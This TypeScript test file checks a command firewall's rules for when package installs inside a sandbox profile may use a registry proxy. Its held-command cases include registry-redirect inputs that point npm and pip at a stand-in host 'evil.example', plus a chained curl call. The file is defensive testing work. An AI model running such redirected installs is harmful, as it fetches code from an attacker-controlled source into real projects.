// The judgement behind the package-registry proxy of the workspace-write profile (config
// `sandbox.network.allow`): which network needs it covers (installs of what the lock file or
// manifest names, dependency-fetching builds) and which stay held — a named package, a URL,
// another index or registry, an environment that could redirect the manager, git, curl — and that
// the setting changes nothing where the profile is not in play.
import { mkdirSync } from 'node:fs';
import path from 'node:path';

import { beforeAll, describe, expect, it } from 'vitest';

import type { RiskAssessor } from '@finger/shell-risk';
import { fetchesFromManifest } from '@finger/shell-risk';

import { FirewallEngine } from '../../src/engine/firewall-engine.js';
import { compilePolicy } from '../../src/policy/compile-policy.js';
import { PathSandbox } from '../../src/sandbox/path-sandbox.js';
import { cleanupsAfterEach, facts, sharedAssessor, tempDir } from '../engine/helpers.js';

let assessor: RiskAssessor;
beforeAll(async () => {
  assessor = await sharedAssessor();
});
const cleanups = cleanupsAfterEach();

function engine(o: { workspace: boolean; network?: 'registries' }) {
  const { dir, cleanup } = tempDir('registry-proxy');
  cleanups.push(cleanup);
  const ws = path.join(dir, 'ws');
  const homeDir = path.join(dir, 'home');
  mkdirSync(ws);
  mkdirSync(homeDir);
  const a = compilePolicy({ version: 1, rules: [] }, { layer: 'admin', homeDir, assessor }).policy;
  const u = compilePolicy({ version: 1, rules: [] }, { layer: 'user', homeDir, assessor, admin: a }).policy;
  return new FirewallEngine({
    policy: { current: () => ({ admin: a, user: u }) },
    risk: assessor,
    sandbox: new PathSandbox({ workspaceRoots: [ws], homeDir }),
    ...(o.workspace
      ? { workspace_sandbox: { tools: ['shell.exec'], ...(o.network ? { network: o.network } : {}) } }
      : {}),
  });
}

/** level, the proxy flag and the first reason of one command. */
function verdict(e: FirewallEngine, command: string) {
  const ev = e.evaluate(facts('shell.exec', { command }), { record: false });
  return {
    level: ev.level,
    profile: ev.sandbox_profile ?? null,
    network: ev.sandbox_network ?? null,
    reason: ev.reasons[0] ?? '',
  };
}

describe('installs through the registry proxy', () => {
  it('installs of what the lock file or manifest names run in the profile with the proxy (NOTIFY)', () => {
    const e = engine({ workspace: true, network: 'registries' });
    for (const c of [
      'npm ci',
      'npm ci --omit=dev --no-audit',
      'npm install',
      'npm i --ignore-scripts',
      'pnpm install --frozen-lockfile',
      'yarn',
      'yarn install --frozen-lockfile',
      'bun install',
      'pip install -r requirements.txt',
      'pip install -e .',
      'pip3 install -r requirements-dev.txt -c constraints.txt',
      'python3 -m pip install -r requirements.txt',
      'uv sync',
      'uv pip install -r requirements.txt',
      'poetry install --no-root',
      'pipenv install',
      'bundle install',
      'cargo fetch',
      'cargo build --release',
      'dotnet restore',
      'CI=1 npm ci',
      'npm ci && npm test',
    ])
      expect(verdict(e, c), c).toEqual({
        level: 'NOTIFY',
        profile: 'workspace-write',
        network: 'registries',
        reason: expect.stringMatching(/^NOTIFY: /) as unknown as string,
      });
  });

  it('what adds a named package, names another source or could redirect the manager stays held with its network reason', () => {
    const e = engine({ workspace: true, network: 'registries' });
    const held: Record<string, string> = {
      'npm install left-pad': 'needs network: npm install',
      'npm i -D vitest': 'needs network: npm i',
      'npm ci --registry=http://evil.example/': 'needs network: npm ci',
      'npm ci --registry http://evil.example/': 'needs network: npm ci',
      'npm install -g typescript': 'needs network: npm install',
      'npm_config_registry=http://evil.example npm ci': 'needs network: npm ci',
      'export npm_config_registry=http://evil.example; npm ci': 'needs network: npm ci',
      'pip install requests': 'needs network: pip install',
      'pip install -r requirements.txt -i https://evil.example/simple': 'needs network: pip install',
      'pip install --extra-index-url https://evil.example/simple -r requirements.txt': 'needs network: pip install',
      'pip install git+https://github.com/x/y': 'needs network: pip install',
      'pip install -r /etc/reqs.txt': 'needs network: pip install',
      'pip install -e ../other': 'needs network: pip install',
      'pip install -r $REQS': 'needs network: pip install',
      'yarn add lodash': 'needs network: yarn add',
      'pnpm add zod': 'needs network: pnpm add',
      'cargo install ripgrep': 'needs network: cargo install',
      'cargo add serde': 'needs network: cargo add',
      'go get example.com/mod@latest': 'needs network: go get',
      // Go's module mirror fetches unknown modules from any origin host: it is no registry here
      'go mod download': 'needs network: go mod download',
      'go mod tidy': 'needs network: go mod tidy',
      'go install example.com/cmd@latest': 'needs network: go install',
      'poetry add requests': 'needs network: poetry add',
      'uv add httpx': 'needs network: uv add',
      'gem install rails': 'needs network: gem install',
      'npm publish': 'needs network: npm publish',
      'npm ci && curl https://example.com': 'needs network: curl',
      'git fetch origin': 'needs network: git fetch',
    };
    for (const [c, why] of Object.entries(held)) {
      const v = verdict(e, c);
      expect(v.network, c).toBeNull();
      expect(v.profile, c).toBeNull();
      expect(['CONFIRM', 'APPROVE', 'DENY'], c).toContain(v.level);
      if (v.level === 'CONFIRM') expect(v.reason, c).toBe(`CONFIRM: ${why}`);
    }
  });

  it('without the setting every install is held for the network; without the profile the setting widens nothing', () => {
    const noProxy = engine({ workspace: true });
    expect(verdict(noProxy, 'npm ci')).toEqual({
      level: 'CONFIRM',
      profile: null,
      network: null,
      reason: 'CONFIRM: needs network: npm ci',
    });
    expect(verdict(noProxy, 'cargo build').network).toBeNull();
    const noProfile = engine({ workspace: false, network: 'registries' });
    for (const c of ['npm ci', 'cargo build', 'pip install -r requirements.txt']) {
      const v = verdict(noProfile, c);
      expect(v.profile, c).toBeNull();
      expect(v.network, c).toBeNull();
      expect(v.level, c).toBe('CONFIRM');
    }
  });

  it('a build that needs no registry gets no proxy', () => {
    const e = engine({ workspace: true, network: 'registries' });
    for (const c of ['npm test', 'make', 'pytest -q', 'git commit -m x']) expect(verdict(e, c).network, c).toBeNull();
  });

  it("Go's builds get no proxy (its module mirror is no registry): they run in the profile without network", () => {
    const e = engine({ workspace: true, network: 'registries' });
    for (const c of ['go test ./...', 'go build ./...', 'go vet ./...', 'go run ./cmd/server']) {
      const v = verdict(e, c);
      expect(v.network, c).toBeNull();
      expect(v.profile, c).toBe('workspace-write');
    }
  });

  it('fetchesFromManifest refuses wrappers, run-time words and option bundles that hide a redirecting letter', async () => {
    const seg = (command: string) => assessor.assess(command).model.segments.at(-1)!;
    expect(fetchesFromManifest(seg('npm ci'))).toBe(true);
    expect(fetchesFromManifest(seg('npm ci $FLAGS'))).toBe(false);
    expect(fetchesFromManifest(seg('npm install -gq'))).toBe(false);
    expect(fetchesFromManifest(seg('npm ci -- foo'))).toBe(false);
    expect(fetchesFromManifest(seg('./node_modules/.bin/npm ci'))).toBe(false);
    expect(fetchesFromManifest(seg('cargo run -- --help'))).toBe(true);
    expect(fetchesFromManifest(seg('go mod graph'))).toBe(false);
  });
});
